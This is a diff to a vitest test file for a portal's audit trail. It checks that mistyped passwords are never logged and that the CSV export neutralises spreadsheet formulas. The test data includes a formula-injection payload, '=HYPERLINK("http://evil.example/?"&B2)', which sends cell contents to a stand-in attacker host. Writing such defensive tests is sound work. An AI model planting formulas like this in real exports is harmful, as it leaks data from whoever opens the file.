@@ -4,6 +4,7 @@ import { Writable } from 'node:stream';
 import { afterEach, describe, expect, it } from 'vitest';
 import { buildPortal, type Portal } from '../../src/portal/app.js';
 import { DEFAULT_PORTAL_SETTINGS } from '../../src/portal/settings.js';
+import { audit } from '../../src/db/audit.js';
 import { createLogger } from '../../src/log.js';
 import { databasePerFile, deps, rows, useTempDir, writeParticipants, FIXED_NOW } from '../helpers/pipeline.js';
 import { importParticipants } from '../../src/pipeline/import-participants.js';
@@ -28,6 +29,8 @@ describe('portal audit trail', () => {
     const app = open.app;
 
     await new Client(app).signIn('tinh-001', 'sai-mat-khau-nay');
+    // A password typed into the login field, for no account: kept in no row and no log line.
+    await new Client(app).signIn('Mat-Khau-Go-Nham', 'x');
     const office = await signedIn(app, 'tinh-001');
     await office.post('/lookup', { number: '012345612' });
     await office.get('/units/HN0010002/mau01.xlsx');
@@ -41,6 +44,7 @@ describe('portal audit trail', () => {
       db, `SELECT login, action, object, result, ip FROM audit_log ORDER BY id`);
     expect(trail.map((r) => [r.login, r.action, r.object, r.result])).toEqual([
       ['tinh-001', 'login', '', 'wrong-password'],
+      [null, 'login', '', 'unknown-login'],
       ['tinh-001', 'login', '', 'ok'],
       ['tinh-001', 'lookup', '', '1 found'],
       ['tinh-001', 'download', 'mau01 HN0010002', 'ok'],
@@ -56,6 +60,8 @@ describe('portal audit trail', () => {
     expect(logs).toContain('"stage":"login"');
     expect(logs).not.toContain('012345612');
     expect(logs).not.toContain('sai-mat-khau-nay');
+    expect(logs.toLowerCase()).not.toContain('mat-khau-go-nham');
+    expect(JSON.stringify(trail).toLowerCase()).not.toContain('mat-khau-go-nham');
 
     const national = await signedIn(app, 'tw');
     const csv = await national.get('/audit.csv');
@@ -63,6 +69,20 @@ describe('portal audit trail', () => {
     const lines = csv.body.trim().split('\n');
     expect(lines[0]).toBe('at,login,action,object,result,ip');
     expect(lines[1]).toBe('2024-06-03T01:30:00.000Z,tinh-001,login,"",wrong-password,127.0.0.1');
+    expect(lines[2]).toBe('2024-06-03T01:30:00.000Z,,login,"",unknown-login,127.0.0.1');
+  });
+
+  it('gives audit.csv text that no spreadsheet runs: a value starting =, +, -, @ is written as text', async () => {
+    const { db } = database();
+    await seed(db, await useTempDir());
+    open = await buildPortal({ deps: { db, log: createLogger('silent'), now: () => FIXED_NOW }, settings: DEFAULT_PORTAL_SETTINGS });
+    // A unit code, an address forwarded by a proxy: text from outside, as the trail stores it.
+    await audit(db, { at: FIXED_NOW, login: 'tw', action: 'download', object: '=HYPERLINK("http://evil.example/?"&B2)', result: '@SUM(1)', ip: '-2+3' });
+    await audit(db, { at: FIXED_NOW, login: 'tw', action: 'download', object: 'mau01 =X', result: 'ok', ip: '+1' });
+    const csv = await (await signedIn(open.app, 'tw')).get('/audit.csv');
+    const lines = csv.body.trim().split('\n');
+    expect(lines).toContain(`2024-06-03T01:30:00.000Z,tw,download,"'=HYPERLINK(""http://evil.example/?""&B2)",'@SUM(1),'-2+3`);
+    expect(lines).toContain(`2024-06-03T01:30:00.000Z,tw,download,mau01 =X,ok,'+1`);
   });
 
   it('cannot be changed or emptied', async () => {
